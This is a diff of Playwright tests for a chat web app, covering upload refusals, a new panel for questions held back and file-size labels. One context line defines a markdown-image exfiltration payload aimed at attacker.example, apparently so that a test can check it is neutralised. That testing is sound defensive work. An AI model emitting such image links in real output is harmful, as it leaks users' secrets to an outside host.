@@ -74,8 +74,6 @@ async def test_only_what_the_model_can_take_is_offered(chat: Open, name: str, no
     settings = page.tab.get_by_test_id("stSidebar").get_by_test_id("stExpander")
     for label in ALL | {"Show the thoughts"}:
         await expect(settings.get_by_text(label, exact=True)).to_have_count(0 if label in not_offered else 1)
-    upload = page.tab.get_by_test_id("stChatInputFileUploadButton")
-    await expect(upload).to_have_count(0 if name == "fake-1" else 1)
 
 
 async def test_everything_that_is_set_is_sent(chat: Open, service: FakeService) -> None:
@@ -144,11 +142,13 @@ async def test_what_cannot_be_read_is_said_and_not_sent(
     await page.write(field, text)
     await expect(page.tab.get_by_test_id("stSidebar").locator(".tw-problem")).to_contain_text(words)
     await page.ask("What is baseball?")
-    await expect(page.problem()).to_contain_text(words)
+    await expect(page.not_asked()).to_contain_text(words)
+    await expect(page.not_asked()).to_contain_text("What is baseball?")
     assert not service.requests
     await page.write(field, "")
-    await page.tab.get_by_role("button", name="Retry").click()
+    await page.not_asked().get_by_role("button", name="Ask", exact=True).click()
     await expect(page.answer()).to_contain_text("Hello there.")
+    await expect(page.not_asked()).to_have_count(0)
 
 
 HOSTILE = "![x](http://attacker.example/?q=secret) :material/home: $x$"
@@ -245,7 +245,8 @@ async def test_pdf_and_audio_go_along_too(chat: Open, service: FakeService) -> N
         FilePayload(name="voice.wav", mimeType="audio/wav", buffer=b"RIFF" + bytes(2000)),
     )
     await answered(page, "What is said?")
-    await expect(page.messages.first).to_contain_text("application/pdf")
+    await expect(page.messages.first).to_contain_text("report.pdf · PDF · 8 bytes")
+    await expect(page.messages.first).to_contain_text("voice.wav · audio/wav · 2.0 kB")
     await expect(page.messages.first.get_by_test_id("stAudio")).to_be_visible()
     assert [part.inline_data.mime_type for part in service.requests[0].messages[0].parts] == [
         "application/pdf",
@@ -259,9 +260,13 @@ async def test_a_file_that_is_no_image_is_refused_in_words(chat: Open, service: 
     await page.choose("fake-2")
     await page.attach(FilePayload(name="photo.png", mimeType="image/png", buffer=b"hello"))
     await page.ask("What is this?")
-    await expect(page.problem()).to_have_text("photo.png can't be sent: it can't be read as an image.")
+    await expect(page.not_asked()).to_contain_text("photo.png can't be sent: it can't be read as an image.")
     assert not service.requests
     await page.photograph("image-refused")
+    # Nothing is asked without the file unless somebody says so.
+    await page.not_asked().get_by_role("button", name="Ask without the refused files").click()
+    await expect(page.answer()).to_contain_text("Hello there.")
+    assert list(service.requests[0].messages) == [user("What is this?")]
 
 
 @pytest.mark.parametrize(
@@ -284,7 +289,9 @@ async def test_a_file_that_is_too_large_or_of_another_kind_is_refused_in_words(
     await page.choose("fake-2")
     await page.attach(file)
     await page.ask("What is this?")
-    await expect(page.problem()).to_contain_text(words)
+    await expect(page.not_asked()).to_contain_text(words)
+    await page.not_asked().get_by_role("button", name="Don't ask").click()
+    await expect(page.not_asked()).to_have_count(0)
     assert not service.requests
 
 
